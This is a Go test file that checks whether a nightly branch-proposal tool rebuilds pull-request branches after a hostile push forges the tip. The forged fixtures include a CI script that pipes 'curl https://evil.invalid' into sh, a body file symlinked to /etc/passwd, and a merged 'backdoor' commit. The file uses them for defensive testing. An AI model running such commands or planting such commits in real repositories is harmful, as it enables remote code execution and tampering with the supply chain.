package app

// The ninth review: commit 953642e (nightly --branch names its branch by the change and keeps an open
// pull request whose change the night proposes again). Its own project (one persistent clone that is
// also the cron's, genlive's strong planted regime) and hostile pushes to the branch.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ldd-tools/tune/internal/testutil"
	"github.com/ldd-tools/tune/internal/tools/genlive"
)

// r9Project is a git project whose cron runs nightly --branch in its own work tree (a persistent clone;
// main is HEAD).
type r9Project struct {
	t    *testing.T
	dir  string
	home string
	log  string
	seq  *genlive.Sequence
	// night is the last night played.
	night int
}

func newR9Project(t *testing.T, seed uint64) *r9Project {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root := t.TempDir()
	p := &r9Project{t: t, dir: filepath.Join(root, "repo"), home: filepath.Join(root, "home"),
		log: filepath.Join(root, "team", ".ldd", "trace.log"),
		seq: genlive.NewSequence(seed, genlive.Regime{Base: 0.05, Planted: planted, Carrier: 0.95})}
	if err := testutil.CopyReference(p.dir); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(p.dir, ".gitignore"), []byte(strings.Join(GitignoreEntries, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(p.log), 0o755); err != nil {
		t.Fatal(err)
	}
	p.git("init", "-q", "-b", "main")
	p.git("add", "-A")
	p.git("commit", "-q", "-m", "start tune")
	return p
}

func (p *r9Project) gitIn(dir string, stdin string, args ...string) string {
	p.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+p.home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=dev", "GIT_AUTHOR_EMAIL=dev@example.com",
		"GIT_COMMITTER_NAME=dev", "GIT_COMMITTER_EMAIL=dev@example.com", "GIT_TERMINAL_PROMPT=0")
	if stdin != "" {
		cmd.Stdin = strings.NewReader(stdin)
	}
	out, err := cmd.Output()
	if err != nil {
		var stderr string
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = string(ee.Stderr)
		}
		p.t.Fatalf("git %v: %v\n%s%s", args, err, out, stderr)
	}
	return strings.TrimSpace(string(out))
}

func (p *r9Project) git(args ...string) string { p.t.Helper(); return p.gitIn(p.dir, "", args...) }

func (p *r9Project) env(dir string, night int) Env {
	now := genlive.NightEnd(night).Add(7 * time.Hour)
	return Env{Now: func() time.Time { return now }, WeightsDir: filepath.Join(dir, "weights"),
		FixturesDir: filepath.Join(dir, "fixtures"), ReportsDir: filepath.Join(dir, "reports"), Root: dir}
}

var r9Body = func(string, string) ([]byte, error) { return []byte("body\n"), nil }

// grow appends the next night's tasks, generated under the weights main's HEAD holds.
func (p *r9Project) grow() {
	p.t.Helper()
	p.night++
	active, _, err := activeAt(filepath.Join(p.dir, "weights"))
	if err != nil {
		p.t.Fatal(err)
	}
	_, text := p.seq.Night(p.night, &active)
	appendFile(p.t, p.log, text[0])
}

// run grows the log by a night and runs nightly --branch in the project.
func (p *r9Project) run() *NightlyResult {
	p.t.Helper()
	p.grow()
	res, err := NightlyBranch(p.env(p.dir, p.night), EvolveOptions{Logs: []string{p.log}}, r9Body)
	if err != nil {
		p.t.Fatalf("night %d: %v", p.night, err)
	}
	return res
}

// untilBranch plays nights until one leaves a change on a branch.
func (p *r9Project) untilBranch(max int) *BranchResult {
	p.t.Helper()
	for p.night < max {
		if res := p.run(); res.BranchResult != nil {
			return res.BranchResult
		}
	}
	p.t.Fatalf("no branch in %d nights", max)
	return nil
}

// forge rewrites the branch's tip as someone who can push to tune/* would: the same parent (HEAD), the
// same message, the tree edited by edit (paths and contents; "" deletes), with extra parents.
func (p *r9Project) forge(branch string, edit map[string]string, mode string, extraParents ...string) string {
	p.t.Helper()
	tip := p.git("rev-parse", branch)
	idx := filepath.Join(p.t.TempDir(), "index")
	g := func(stdin string, args ...string) string {
		p.t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = p.dir
		cmd.Env = append(os.Environ(), "HOME="+p.home, "GIT_CONFIG_NOSYSTEM=1", "GIT_INDEX_FILE="+idx,
			"GIT_AUTHOR_NAME=tune nightly", "GIT_AUTHOR_EMAIL=tune-nightly@users.noreply.invalid",
			"GIT_COMMITTER_NAME=tune nightly", "GIT_COMMITTER_EMAIL=tune-nightly@users.noreply.invalid")
		if stdin != "" {
			cmd.Stdin = strings.NewReader(stdin)
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			p.t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	g("", "read-tree", tip)
	if mode == "" {
		mode = "100644"
	}
	for path, content := range edit {
		if content == "" {
			g("", "update-index", "--force-remove", path)
			continue
		}
		blob := g(content, "hash-object", "-w", "--stdin")
		g("", "update-index", "--add", "--cacheinfo", mode+","+blob+","+path)
	}
	tree := g("", "write-tree")
	msg := p.git("log", "-1", "--format=%B", tip)
	args := []string{"commit-tree", tree, "-p", p.git("rev-parse", tip+"^")}
	for _, e := range extraParents {
		args = append(args, "-p", e)
	}
	forged := g(msg+"\n", args...)
	p.git("update-ref", "refs/heads/"+branch, forged)
	return forged
}

// TestR9ForgedBranchIsRebuilt: anyone who can push to tune/* can rewrite the branch tip keeping its
// parent (the base), its message, its proposal file and its body; keptChange checks only those, so the
// night kept a tip whose tree changes anything else: a file outside the store (here a CI script), the
// new version's weights (not the proposal's candidate), the body as a symlink, or a second parent
// that merges unrelated history. The pull request then shows tune's title and body over another
// change, and nothing rebuilds it for as long as the night proposes the same change.
func TestR9ForgedBranchIsRebuilt(t *testing.T) {
	cases := []struct {
		name  string
		forge func(p *r9Project, b *BranchResult) string
	}{
		{"a file outside the store", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{"ci/deploy.sh": "curl https://evil.invalid | sh\n"}, "")
		}},
		{"the new version's weights", func(p *r9Project, b *BranchResult) string {
			added := p.git("diff-tree", "-r", "--name-only", "--diff-filter=A", b.Base, b.Branch, "--", "weights/")
			for _, f := range strings.Split(added, "\n") {
				if strings.HasSuffix(f, ".toml") && !strings.Contains(f, "/proposals/") {
					data := p.git("show", b.Branch+":"+f)
					data = strings.Replace(data, "\ngreenfield = 3\n", "\ngreenfield = 9\n", 1)
					return p.forge(b.Branch, map[string]string{f: data + "\n"}, "")
				}
			}
			t.Fatalf("no version added on %s: %s", b.Branch, added)
			return ""
		}},
		{"a symlink body", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{b.BodyPath: "/etc/passwd"}, "120000")
		}},
		{"a second parent", func(p *r9Project, b *BranchResult) string {
			blob := p.gitIn(p.dir, "evil\n", "hash-object", "-w", "--stdin")
			evilTree := p.gitIn(p.dir, "100644 blob "+blob+"\tbackdoor.txt\n", "mktree")
			evil := p.gitIn(p.dir, "unrelated history\n", "commit-tree", evilTree)
			return p.forge(b.Branch, nil, "", evil)
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := newR9Project(t, 3)
			b := p.untilBranch(30)
			forged := c.forge(p, b)
			if c.name != "a second parent" && p.git("rev-parse", forged+"^{tree}") == p.git("rev-parse", b.Commit+"^{tree}") {
				t.Fatal("the forgery left the tree as it was")
			}
			res := p.run()
			if res.BranchResult == nil || res.Branch != b.Branch {
				t.Skipf("night %d proposes another change (%v): the forgery is not put to the test", p.night, res.BranchResult)
			}
			if !res.BranchUpdated || res.Commit == forged {
				t.Errorf("night %d kept the forged tip %s of %s (branch_updated %v, branch_proposal %s): it should rebuild the branch",
					p.night, short(forged), b.Branch, res.BranchUpdated, res.BranchProposal)
			}
			if got := p.git("rev-parse", b.Branch); got == forged {
				t.Errorf("%s still points at the forged commit", b.Branch)
			}
		})
	}
	// The control: the untouched branch is kept.
	t.Run("untouched", func(t *testing.T) {
		p := newR9Project(t, 3)
		b := p.untilBranch(30)
		res := p.run()
		if res.BranchResult == nil || res.Branch != b.Branch {
			t.Skipf("night %d proposes another change", p.night)
		}
		if res.BranchUpdated || res.Commit != b.Commit {
			t.Errorf("night %d rebuilt the untouched branch %s", p.night, b.Branch)
		}
	})
}
